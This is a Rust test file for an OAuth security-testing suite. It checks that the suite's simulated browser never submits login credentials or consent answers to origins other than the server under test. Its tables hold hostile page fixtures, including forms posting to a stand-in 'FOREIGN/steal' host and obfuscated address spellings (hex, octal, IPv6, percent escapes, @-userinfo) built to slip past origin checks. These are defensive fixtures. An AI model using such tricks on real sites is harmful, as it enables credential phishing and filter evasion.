//! The suite's browser at a server that wants it elsewhere: it sends nothing to strangers, and nothing to clients.

use oauth_suite::browser::{Decision, Landing};
use oauth_suite::case_end::EndKind;
use oauth_suite::flow::{self, Browser};

use crate::common::script::{Script, context};

/// A server and two origins that it wants the browser at.
struct Scene {
    own: Script,
    foreign: Script,
    client: Script,
}

impl Scene {
    /// In the answers, `FOREIGN` and `CLIENT` stand for the other hosts with their ports, `:FP` for the stranger's port.
    async fn set(answers: &[(&str, &str)]) -> Self {
        let (foreign, client) = (Script::start(&[]).await, Script::start(&[]).await);
        let filled: Vec<(&str, String)> = answers
            .iter()
            .map(|(asked, answer)| {
                let answer = answer.replace("FOREIGN", host(&foreign)).replace("CLIENT", host(&client));
                (*asked, answer.replace(":FP", port(&foreign)))
            })
            .collect();
        let filled: Vec<(&str, &str)> =
            filled.iter().map(|(asked, answer)| (*asked, answer.as_str())).collect();
        Self { own: Script::start(&filled).await, foreign, client }
    }

    /// A target file: one client's redirect URI is at the client, another's on any port of the machine.
    fn target(&self, more: &str) -> String {
        let (base, client) = (&self.own.base, &self.client.base);
        format!(
            "{more}\n[endpoints]\nauthorization = \"{base}/start\"\ntoken = \"{base}/token\"\n\
             [client]\nid = \"c\"\nsecret = \"client secret\"\nredirect_uri = \"{client}/cb\"\n\
             [public_client]\nid = \"p\"\nredirect_uri = \"http://127.0.0.1/app\"\n\
             [user]\nname = \"ann\"\npassword = \"pass word\"\n"
        )
    }

    /// Opens the first page, logs in and answers as a browser does that suspects nothing.
    async fn walk(&self, more: &str, decision: Decision) -> (Browser, Landing) {
        let context = context(&self.target(more));
        let mut browser = flow::browser(&context);
        let first = browser.open(&format!("{}/start", self.own.base)).await.expect("it lands");
        let landing = browser.run(first, decision).await.expect("it lands");
        (browser, landing)
    }

    /// Panics if anybody connected to another origin than the server's own.
    #[track_caller]
    fn nothing_left(&self, what: &str) {
        let asked = [self.foreign.asked(), self.client.asked()];
        assert_eq!([self.foreign.connections(), self.client.connections()], [0, 0], "{what}: {asked:?}");
    }
}

fn host(script: &Script) -> &str {
    script.base.trim_start_matches("http://")
}

fn port(script: &Script) -> &str {
    script.base.trim_start_matches("http://127.0.0.1")
}

fn kind(landing: &Landing) -> &'static str {
    match landing {
        Landing::Callback(_) => "callback",
        Landing::Foreign(_) => "foreign",
        Landing::Page(_) => "page",
    }
}

/// What a login page asks for.
const FIELDS: &str = "<input type=hidden name=csrf value=x1><input name=user><input type=password name=word><button>Sign in</button>";
const ALLOW: &str = "<button name=a value=yes>Allow</button>";

fn page(html: &str) -> String {
    format!("200 OK\nContent-Type: text/html\nSet-Cookie: session=s1; Path=/\n\n{html}")
}

fn form(attributes: &str, content: &str) -> String {
    page(&format!("<form {attributes}>{content}</form>"))
}

#[tokio::test]
async fn a_form_to_a_stranger_is_not_sent_however_the_page_spells_it() {
    let post = |action: &str| form(&format!("method=post action=\"{action}\""), FIELDS);
    #[rustfmt::skip]
    let table = [
        ("a form", post("http://FOREIGN/steal")),
        ("a form by GET", form("action=http://FOREIGN/steal", FIELDS)),
        ("a form without its scheme", post("//FOREIGN/steal")),
        ("backslashes", post("http:\\\\FOREIGN\\steal")),
        ("capitals", post("HTTP://FOREIGN/steal")),
        ("white space inside", post(" ht\ttp://FOREIGN/st\neal ")),
        ("the server's name before an @", post("http://OWN@FOREIGN/steal")),
        ("the server's name in the path", post("http://FOREIGN/OWN")),
        ("an address of two parts", post("http://127.1:FP/steal")),
        ("an address in hexadecimal", post("http://0x7f000001:FP/steal")),
        ("an address in octal", post("http://0177.0.0.1:FP/steal")),
        ("an address as one number", post("http://2130706433:FP/steal")),
        ("an address as IPv6", post("http://[::ffff:127.0.0.1]:FP/steal")),
        ("an address in percent escapes", post("http://%31%32%37.0.0.1:FP/steal")),
        ("a dot behind the host", post("http://127.0.0.1.:FP/steal")),
        ("a name for the address", post("http://localhost:FP/steal")),
        ("full-width digits", post("http://１２７.0.0.1:FP/steal")),
        ("a base", page(&format!("<base href=http://FOREIGN/><form method=post action=steal>{FIELDS}</form>"))),
        ("a base without its scheme", page(&format!("<base href=//FOREIGN/><form method=post action=/steal>{FIELDS}</form>"))),
        ("a base and a form by GET", page(&format!("<base href=http://FOREIGN/><form action=steal>{FIELDS}</form>"))),
        ("a button", form("method=post action=/own", "<input name=user><input type=password name=word><button formaction=http://FOREIGN/steal>Sign in</button>")),
        ("an input that submits", form("method=post action=/own", "<input name=user><input type=password name=word><input type=submit value=Go formaction=//FOREIGN/steal>")),
        ("an image that submits", form("method=post action=/own", "<input name=user><input type=password name=word><input type=image formaction=http://FOREIGN/steal>")),
        ("the first of two steps", form("method=post action=http://FOREIGN/steal", "<input name=username><button>Next</button>")),
        ("a consent form", form("method=post action=http://FOREIGN/steal", ALLOW)),
        ("a consent form by GET", form("action=http://FOREIGN/steal", ALLOW)),
        ("a consent button", form("method=post action=/own", "<button formaction=http://FOREIGN/steal>Allow</button>")),
        ("another scheme", post("https://OWN/steal")),
        ("another name of the server's machine", post("http://localhost:OP/steal")),
    ];
    for (what, answer) in table {
        let scene = Scene::set(&[("GET /start", &answer)]).await;
        let (_, landing) = scene.walk("", Decision::Approve).await;
        scene.nothing_left(what);
        assert_eq!(scene.own.connections(), 1, "{what}: {:?}", scene.own.asked());
        assert_eq!(kind(&landing), "foreign", "{what}: {}", landing.describe());
        let stop = landing.sent().expect_err("it was not sent");
        assert_eq!(stop.kind, EndKind::NotTested, "{what}");
        let start = format!("at {}/start leads to ", scene.own.base);
        let named = stop.saw.contains(&start) && stop.saw.contains("neither the server's own nor a client's");
        assert!(named && stop.saw.ends_with("add it to origins"), "{what}: {}", stop.saw);
        assert!(!stop.saw.contains("pass"), "{what}: {}", stop.saw);
    }
}

#[tokio::test]
async fn a_form_to_a_redirect_uri_is_not_sent() {
    #[rustfmt::skip]
    let table = [
        ("a form", form("method=post action=http://CLIENT/cb", ALLOW), Decision::Approve),
        ("a form by GET", form("action=http://CLIENT/cb", "<input type=hidden name=code value=c1><button>Allow</button>"), Decision::Approve),
        ("a login form", form("method=post action=http://CLIENT/cb?x=1", FIELDS), Decision::Approve),
        ("a button", form("method=post action=/own", "<button formaction=http://CLIENT/cb>Allow</button>"), Decision::Approve),
        ("a base", page(&format!("<base href=http://CLIENT/><form method=post action=cb>{ALLOW}</form>")), Decision::Approve),
        ("a link", page(&format!("<form method=post action=/own>{ALLOW}</form><a href=http://CLIENT/cb?code=c1>Cancel</a>")), Decision::Deny),
        ("a link with both", page(&format!("<form method=post action=/own>{ALLOW}</form><a href=http://CLIENT/cb?code=c1&error=e>Cancel</a>")), Decision::Deny),
        ("a login form by GET", form("action=http://CLIENT/cb", &format!("<input type=hidden name=error value=e>{FIELDS}")), Decision::Approve),
        ("any port of a public client", form("method=post action=http://FOREIGN/app", ALLOW), Decision::Approve),
    ];
    for (what, answer, decision) in table {
        let scene = Scene::set(&[("GET /start", &answer)]).await;
        let (_, landing) = scene.walk("", decision).await;
        scene.nothing_left(what);
        assert_eq!(kind(&landing), "callback", "{what}: {}", landing.describe());
        let stop = landing.sent().expect_err("it was not sent");
        assert!(
            stop.saw.contains("a redirect URI, to which the suite never connects"),
            "{what}: {}",
            stop.saw
        );
    }
}

#[tokio::test]
async fn a_link_that_cancels_at_the_redirect_uri_is_an_answer_that_nobody_has_to_send() {
    let link = "<a href=\"http://CLIENT/cb?error=access_denied&amp;state=s1\">Cancel</a>";
    let by_get = "<form action=http://CLIENT/cb><input type=hidden name=error value=access_denied>\
                  <input type=hidden name=state value=s1><button>Cancel</button></form>";
    for html in [link, by_get] {
        let answer = page(&format!("<form method=post action=/own>{ALLOW}</form>{html}"));
        let scene = Scene::set(&[("GET /start", &answer)]).await;
        let (_, landing) = scene.walk("", Decision::Deny).await;
        scene.nothing_left(html);
        landing.sent().expect("it is an answer");
        let told = landing.callback().expect("it leads to the client");
        assert_eq!(
            (told.params.first("error"), told.params.first("state")),
            (Some("access_denied"), Some("s1"))
        );
        let said = format!(
            "a link or form at {}/start leads to the client with error=access_denied, state",
            scene.own.base
        );
        assert_eq!(landing.describe(), said);
    }
}

#[tokio::test]
async fn a_redirect_uri_on_the_servers_own_origin_is_not_connected_to_either() {
    #[rustfmt::skip]
    let table = [
        ("a redirect", "302 Found\nLocation: /back?code=c1\n\n".to_owned(), "callback"),
        ("a redirect that keeps the method", "307 X\nLocation: BASE/back\n\n".to_owned(), "callback"),
        ("a redirect through another folder", "302 Found\nLocation: /x/%2e%2e/back\n\n".to_owned(), "callback"),
        ("a redirect with a slash more", "302 Found\nLocation: BASE//back\n\n".to_owned(), "foreign"),
        ("an escape in the path", "302 Found\nLocation: /b%61ck?code=c1\n\n".to_owned(), "foreign"),
        ("a form", form("method=post action=/back", ALLOW), "callback"),
        ("a form with an escape in its path", form("method=post action=/%62ack", ALLOW), "foreign"),
        ("a form by GET", form("action=/back", FIELDS), "callback"),
    ];
    for (what, answer, expected) in table {
        let scene = Scene::set(&[("GET /start", &answer)]).await;
        let client = format!("redirect_uri = \"{}/cb\"", scene.client.base);
        let target =
            scene.target("").replace(&client, &format!("redirect_uri = \"{}/back\"", scene.own.base));
        let context = context(&target);
        let mut browser = flow::browser(&context);
        let first = browser.open(&format!("{}/start", scene.own.base)).await.expect("it lands");
        let landing = browser.run(first, Decision::Approve).await.expect("it lands");
        assert_eq!(scene.own.connections(), 1, "{what}: {:?}", scene.own.asked());
        assert_eq!(kind(&landing), expected, "{what}: {}", landing.describe());
    }
}

#[tokio::test]
async fn redirects_refreshes_links_and_broken_addresses_lead_nowhere() {
    let login = form("method=post action=/do", FIELDS);
    let ask = form("method=post action=/do", ALLOW);
    let away = |status: u16| format!("{status} X\nLocation: http://FOREIGN/steal?code=1\n\n");
    let refresh = "<meta http-equiv=refresh content=\"0; url=http://FOREIGN/steal\">";
    let link = format!("<form method=post action=/do>{ALLOW}</form><a href=//FOREIGN/steal?x=1>Cancel</a>");
    let mut table = Vec::new();
    for status in [301, 302, 303, 307, 308] {
        let (first, second) = (vec![("GET /start", away(status))], vec![("POST /do", away(status))]);
        table.push((format!("{status} at first"), first, Decision::Approve, "foreign"));
        let second = [vec![("GET /start", login.clone())], second].concat();
        table.push((format!("{status} after the login"), second, Decision::Approve, "foreign"));
    }
    let by_way = vec![("GET /start", "302 X\nLocation: /do\n\n".into()), ("GET /do", away(302))];
    table.push(("a redirect by way of the server".into(), by_way, Decision::Approve, "foreign"));
    #[rustfmt::skip]
    table.extend([
        ("the redirect URI".into(), vec![("GET /start", ask), ("POST /do", "303 X\nLocation: http://CLIENT/cb?code=1\n\n".into())], Decision::Approve, "callback"),
        ("a refresh".into(), vec![("GET /start", page(refresh))], Decision::Approve, "page"),
        ("a refresh by a header".into(), vec![("GET /start", "200 OK\nRefresh: 0; url=http://FOREIGN/steal\n\nwait".into())], Decision::Approve, "page"),
        ("a refresh after the login".into(), vec![("GET /start", login), ("POST /do", page(refresh))], Decision::Approve, "page"),
        ("a Location without a redirect".into(), vec![("GET /start", "201 X\nLocation: http://FOREIGN/steal\n\n".into())], Decision::Approve, "page"),
        ("a form that leads to no address".into(), vec![("GET /start", form("method=post action=ftp://OWN/steal", FIELDS))], Decision::Approve, "foreign"),
        ("a form with a broken address".into(), vec![("GET /start", form("method=post action=http://[OWN/steal", FIELDS))], Decision::Approve, "foreign"),
        ("a link that denies".into(), vec![("GET /start", page(&link))], Decision::Deny, "foreign"),
    ]);
    for (what, answers, decision, expected) in table {
        let answers: Vec<(&str, &str)> =
            answers.iter().map(|(asked, answer)| (*asked, answer.as_str())).collect();
        let scene = Scene::set(&answers).await;
        let (_, landing) = scene.walk("", decision).await;
        scene.nothing_left(&what);
        assert_eq!(scene.own.connections(), answers.len(), "{what}: {:?}", scene.own.asked());
        assert_eq!(kind(&landing), expected, "{what}: {}", landing.describe());
    }
}

#[tokio::test]
async fn what_a_case_opens_or_sends_by_itself_stays_as_well() {
    let scene = Scene::set(&[]).await;
    let context = context(&scene.target(""));
    for place in [&scene.foreign.base, &format!("{}/cb", scene.client.base)] {
        let opened = flow::browser(&context).open(place).await.expect_err("no exchange led there");
        let stepped = flow::browser(&context).send_one(oauth_suite::wire::Request::get(place)).await;
        for stop in [opened, stepped.expect_err("it may not go there")] {
            assert_eq!(stop.kind, EndKind::NotTested);
            assert!(stop.saw.contains(place.as_str()), "{}", stop.saw);
        }
    }
    scene.nothing_left("by itself");
}

#[tokio::test]
async fn an_origin_that_the_target_names_takes_part() {
    let client = Script::start(&[]).await;
    let to_client = format!("303 X\nLocation: {}/cb?code=c1\n\n", client.base);
    let foreign = Script::start(&[
        ("POST /login", "302 X\nLocation: /asks\nSet-Cookie: there=1; Path=/\n\n"),
        ("GET /asks", &form("method=post action=/says", ALLOW)),
        ("POST /says", &to_client),
    ])
    .await;
    let hop = form(&format!("method=post action={}/login", foreign.base), FIELDS);
    let scene = Scene { own: Script::start(&[("GET /start", &hop)]).await, foreign, client };
    let origins = format!("origins = [\"{}\"]", scene.foreign.base);
    let (_, landing) = scene.walk(&origins, Decision::Approve).await;
    assert_eq!(landing.callback().and_then(|at| at.params.first("code")), Some("c1"));
    let asked = scene.foreign.asked();
    assert_eq!(asked.len(), 3, "{asked:?}");
    assert!(asked[0].ends_with("csrf=x1&user=ann&word=pass+word"), "{}", asked[0]);
    assert!(asked[1].contains("there=1"), "{}", asked[1]);
    // The same without the key.
    let (_, landing) = scene.walk("", Decision::Approve).await;
    assert_eq!(kind(&landing), "foreign", "{}", landing.describe());
    assert_eq!(scene.foreign.connections(), 3);
}
